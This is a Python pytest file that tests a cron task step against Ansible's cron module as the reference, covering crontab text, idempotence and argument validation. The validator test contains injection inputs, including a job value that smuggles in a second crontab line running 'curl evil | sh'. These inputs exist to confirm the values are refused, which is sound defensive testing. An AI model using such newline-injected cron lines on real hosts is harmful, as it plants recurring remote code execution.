"""cron (steps/cron.py) on the lab, with ansible-core's own cron module as the oracle: the same entries
applied by both to two throwaway users' crontabs must give the same crontab text."""

from __future__ import annotations

import os
import secrets
import subprocess
import sys
from pathlib import Path

import pytest

from remote_support.errors import TaskError
from remote_support.results import Status
from remote_support.tasks import load_task
from task_support import lab_hosts, run_task, steps_of, write_task

ANSIBLE_PLAYBOOK = Path(sys.executable).with_name("ansible-playbook")

#: (name, arguments) applied in order; the same for Ansible and for remote-support
ENTRIES = [
    ("nightly", {"name": "nightly", "minute": "15", "hour": "2", "job": "/usr/bin/true nightly"}),
    ("boot", {"name": "boot", "special_time": "reboot", "job": "echo boot > /dev/null"}),
    ("mailto", {"name": "MAILTO", "env": True, "job": "ops@example.com"}),
    ("old", {"name": "old", "weekday": "1-5", "job": "echo old", "disabled": True}),
    ("nightly later", {"name": "nightly", "minute": "15", "hour": "3", "job": "/usr/bin/true nightly"}),
    ("no boot", {"name": "boot", "state": "absent"}),
]


def crontab(user: str) -> str:
    return subprocess.run(["crontab", "-l", "-u", user], capture_output=True, text=True, check=False).stdout


@pytest.fixture
def two_users():
    token = secrets.token_hex(3)
    users = [f"rstest-c{token}", f"rstest-a{token}"]
    for user in users:
        subprocess.run(["useradd", "-M", "-s", "/usr/sbin/nologin", user], check=True)
    yield users
    for user in users:
        subprocess.run(["crontab", "-r", "-u", user], capture_output=True, check=False)
        subprocess.run(["userdel", user], capture_output=True, check=False)


def yaml_args(args: dict) -> str:
    return "{" + ", ".join(f"{k}: {v!r}" if isinstance(v, str) else f"{k}: {str(v).lower()}"
                           for k, v in args.items()) + "}"


@pytest.mark.skipif(not ANSIBLE_PLAYBOOK.exists(), reason="ansible-core is the oracle: pip install ansible-core")
def test_crontab_is_the_one_ansible_writes_and_a_second_run_is_ok(lab, tmp_path, two_users):
    ours, theirs = two_users
    playbook = tmp_path / "play.yml"
    playbook.write_text("- hosts: localhost\n  connection: local\n  gather_facts: false\n  tasks:\n" + "".join(
        f"    - ansible.builtin.cron: {yaml_args({**args, 'user': theirs})}\n" for _, args in ENTRIES))
    env = {**os.environ, "ANSIBLE_LOCALHOST_WARNING": "false", "ANSIBLE_INVENTORY_UNPARSED_WARNING": "false",
           "ANSIBLE_HOME": str(tmp_path / "ansible-home"), "ANSIBLE_PYTHON_INTERPRETER": sys.executable}
    played = subprocess.run([str(ANSIBLE_PLAYBOOK), "-i", "localhost,", str(playbook)], capture_output=True,
                            text=True, env=env, timeout=300, check=False)
    assert played.returncode == 0, played.stdout + played.stderr
    expected = crontab(theirs)
    assert "#Ansible: nightly\n15 3 * * * /usr/bin/true nightly\n" in expected

    task = write_task(tmp_path, "name: cron\nsteps:\n" + "".join(
        f"  - name: {label}\n    cron: {yaml_args({**args, 'user': ours})}\n    become: true\n"
        for label, args in ENTRIES))
    host = lab_hosts(lab, [63])
    run = run_task(task, host, check=True, diff=True)
    assert steps_of(run)["nightly"].status is Status.CHANGED
    assert "+#Ansible: nightly\n+15 2 * * * /usr/bin/true nightly\n" in steps_of(run)["nightly"].diff
    assert crontab(ours) == "", "check mode installs nothing"

    run = run_task(task, host)
    assert run.hosts[0].status is Status.CHANGED, run.hosts[0].reason
    assert crontab(ours) == expected

    # the last state again: every entry as wanted
    final = write_task(tmp_path, "name: cron\nsteps:\n" + "".join(
        f"  - name: {label}\n    cron: {yaml_args({**args, 'user': ours})}\n    become: true\n"
        for label, args in ENTRIES if label not in ("nightly", "boot")), name="again.yml")
    again = run_task(final, host)
    assert all(s.status is Status.OK for s in again.hosts[0].steps), \
        [(s.name, s.status, s.reason) for s in again.hosts[0].steps]


def test_an_entry_another_tool_wrote_is_kept_and_absent_removes_only_ours(lab, tmp_path, two_users):
    user = two_users[0]
    subprocess.run(["crontab", "-u", user, "-"], input="# theirs\n0 * * * * /bin/theirs\n", text=True, check=True)
    task = write_task(tmp_path, f"""
        name: cron
        params: [{{name: state, default: present, description: s}}]
        steps:
          - name: entry
            cron: {{name: backup, hour: "1", minute: "0", job: /usr/local/bin/backup, user: {user},
                    state: "{{{{ state }}}}"}}
            become: true
        """)
    host = lab_hosts(lab, [64])
    assert steps_of(run_task(task, host))["entry"].status is Status.CHANGED
    assert crontab(user) == "# theirs\n0 * * * * /bin/theirs\n#Ansible: backup\n0 1 * * * /usr/local/bin/backup\n"
    assert steps_of(run_task(task, host))["entry"].status is Status.OK
    run = run_task(task, host, extra_vars={"state": "absent"})
    assert steps_of(run)["entry"].status is Status.CHANGED
    assert crontab(user) == "# theirs\n0 * * * * /bin/theirs\n"
    assert steps_of(run_task(task, host, extra_vars={"state": "absent"}))["entry"].status is Status.OK


@pytest.mark.parametrize("args, message", [
    ("{name: x}", "needs job"),
    ("{name: x, job: y, special_time: daily, hour: '2'}", "not both"),
    ("{name: x, job: y, minute: 'a;b'}", "not a crontab field"),
    ("{name: x, job: y, special_time: sometimes}", "use one of"),
    ("{name: 'A B', job: y, env: true}", "not a variable name"),
    ('{name: x, job: "true\\n* * * * * curl evil | sh"}', "must be one line"),
    ('{name: "x\\n* * * * * evil", job: "true"}', "must be one line"),
])
def test_bad_cron_arguments_are_refused_at_load(tmp_path, args, message):
    task = write_task(tmp_path, f"name: bad\nsteps:\n  - cron: {args}\n")
    with pytest.raises(TaskError) as error:
        load_task(task)
    assert message in str(error.value) and "task.yml:3" in str(error.value)
